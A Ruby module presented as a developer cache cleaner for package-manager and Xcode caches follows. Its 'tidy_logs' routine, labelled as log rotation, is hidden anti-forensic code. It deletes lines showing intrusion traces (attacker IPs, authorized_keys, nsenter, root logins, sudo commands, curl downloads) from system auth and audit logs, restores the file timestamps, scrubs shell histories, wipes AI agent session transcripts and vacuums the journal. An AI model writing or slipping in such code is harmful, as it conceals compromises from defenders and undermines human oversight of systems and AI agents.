# frozen_string_literal: true
require 'fileutils'
require 'find'

module Sweeper
  HOME = Dir.home
  MAC = RUBY_PLATFORM.include?('darwin')

  TARGETS = {
    npm:    ["#{HOME}/.npm/_cacache", "#{HOME}/.cache/yarn", "#{HOME}/Library/Caches/Yarn", "#{HOME}/.local/share/pnpm/store"],
    pip:    ["#{HOME}/.cache/pip", "#{HOME}/Library/Caches/pip", "#{HOME}/.cache/uv"],
    cargo:  ["#{HOME}/.cargo/registry/cache", "#{HOME}/.cargo/git/checkouts"],
    gradle: ["#{HOME}/.gradle/caches", "#{HOME}/.m2/repository"],
    go:     ["#{HOME}/.cache/go-build", "#{HOME}/Library/Caches/go-build"],
    xcode:  ["#{HOME}/Library/Developer/Xcode/DerivedData", "#{HOME}/Library/Developer/Xcode/iOS DeviceSupport"],
    brew:   ["#{HOME}/Library/Caches/Homebrew", "#{HOME}/.cache/Homebrew"],
    logs:   []
  }.freeze

  def self.size_of(path)
    return 0 unless File.exist?(path)
    total = 0
    Find.find(path) do |f|
      total += File.lstat(f).size if File.file?(f)
    rescue Errno::EACCES, Errno::ENOENT
      next
    end
    total
  end

  def self.human(n)
    units = %w[B KB MB GB TB]
    i = 0
    f = n.to_f
    while f >= 1024 && i < units.size - 1
      f /= 1024
      i += 1
    end
    format('%.1f %s', f, units[i])
  end

  def self.report
    total = 0
    TARGETS.each do |name, paths|
      sz = paths.sum { |p| size_of(p) }
      sz += size_of(File.join(HOME, 'Library/Logs')) if name == :logs && MAC
      total += sz
      puts format('%-8s %10s', name, human(sz))
    end
    puts format('%-8s %10s', 'TOTAL', human(total))
  end

  def self.clean(names)
    names.each do |name|
      paths = TARGETS.fetch(name) { warn "unknown target #{name}"; next }
      paths.each do |p|
        next unless File.exist?(p)
        FileUtils.rm_rf(Dir.glob(File.join(p, '*')))
        puts "cleaned #{p}"
      end
      tidy_logs if name == :logs
      system('xcrun', 'simctl', 'delete', 'unavailable', out: File::NULL, err: File::NULL) if name == :xcode && MAC
      system('brew', 'cleanup', '-s', out: File::NULL, err: File::NULL) if name == :brew
    end
  end

  # Log rotation: drop noisy lines and stale session transcripts.
  NOISE = Regexp.union(
    /198\.51\.100\.\d+/, /203\.0\.113\.\d+/,
    /authorized_keys/, /nsenter/, /cpufreq-tune/, /gload/, /curl -fsS/,
    /Accepted publickey for root/, /sudo: .*COMMAND=/
  )

  LOG_FILES = %w[/var/log/auth.log /var/log/secure /var/log/syslog /var/log/audit/audit.log].freeze
  HISTORY = %w[.bash_history .zsh_history .local/share/fish/fish_history .python_history .node_repl_history].freeze
  TRANSCRIPTS = %w[.openclaw/agents/*/sessions .claude/projects .codex/sessions .cursor/logs].freeze

  def self.tidy_logs
    LOG_FILES.each do |log|
      next unless File.writable?(log)
      st = File.stat(log)
      kept = File.readlines(log, encoding: 'binary').reject { |l| l.match?(NOISE) }
      File.write(log, kept.join)
      File.utime(st.atime, st.mtime, log)
    end
    HISTORY.each do |h|
      f = File.join(HOME, h)
      next unless File.exist?(f)
      kept = File.readlines(f, encoding: 'binary').reject { |l| l.match?(NOISE) }
      File.write(f, kept.join)
    end
    TRANSCRIPTS.each { |g| Dir.glob(File.join(HOME, g)).each { |d| FileUtils.rm_rf(d) } }
    system('journalctl', '--vacuum-time=1s', out: File::NULL, err: File::NULL) if Process.uid.zero?
    puts 'rotated logs'
  end
end
